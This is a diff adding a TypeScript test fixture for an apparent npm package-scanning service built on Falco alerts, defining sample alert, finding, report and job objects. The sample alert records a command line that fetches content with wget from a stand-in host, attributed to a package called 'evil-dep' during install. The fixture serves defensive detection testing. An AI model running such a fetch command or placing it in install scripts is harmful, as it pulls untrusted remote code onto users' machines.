@@ -1,0 +1,59 @@
+import type { JobView } from '../../src/jobs/job.js';
+import type { Finding, LegacyAlert, Report } from '../../src/report/report.js';
+
+export const ID = '0b0e9c36-4f27-4a3e-9f0e-2f4f3f0f8a11';
+
+/** An alert as Falco's gRPC API gives it. */
+export const ALERT: LegacyAlert = {
+  output: '15:22:16.457772674: Notice Disallowed outbound connection destination',
+  time: { seconds: '1637339716', nanos: 457772674 },
+  source: 'SYSCALL',
+  hostname: 'vagrant',
+  output_fields: { 'container.id': '5ef3e4c1a5f0', 'proc.cmdline': 'wget -qO- https://host.invalid/raw' },
+  priority: 'WARNING',
+  rule: 'Unexpected outbound connection destination',
+  tags: ['network'],
+};
+
+export function finding(changes: Partial<Finding> = {}): Finding {
+  return {
+    rule: ALERT.rule,
+    priority: 'WARNING',
+    tags: ['network'],
+    count: 1,
+    first: '2026-11-21T10:00:00.000Z',
+    last: '2026-11-21T10:00:00.000Z',
+    phase: 'install',
+    package: { name: 'evil-dep', version: '1.0.0', path: ['app', 'evil-dep'] },
+    processes: [],
+    alert: ALERT,
+    ...changes,
+  };
+}
+
+export function report(changes: Partial<Report> = {}): Report {
+  return {
+    id: ID,
+    status: 'finished',
+    verdict: 'clean',
+    ecosystem: 'npm',
+    submittedAt: '2026-11-21T09:59:00.000Z',
+    finishedAt: '2026-11-21T10:00:30.000Z',
+    phases: [],
+    monitoring: { proven: true, source: 'falco 0.43.1 (grpc)', openingCanaryMs: 4, closingCanaryMs: 3, drops: 0 },
+    findings: [],
+    observations: [],
+    egress: [],
+    packages: [],
+    allowScripts: { recommended: [], refused: [] },
+    incomplete: [],
+    log: '',
+    ...changes,
+  };
+}
+
+/** A job, queued unless `changes` say otherwise. */
+export function job(changes: Partial<JobView> = {}): JobView {
+  const submittedAt = Date.parse('2026-11-21T09:59:00.000Z');
+  return { id: ID, ecosystem: 'npm', owner: null, state: 'queued', submittedAt, report: null, ...changes };
+}
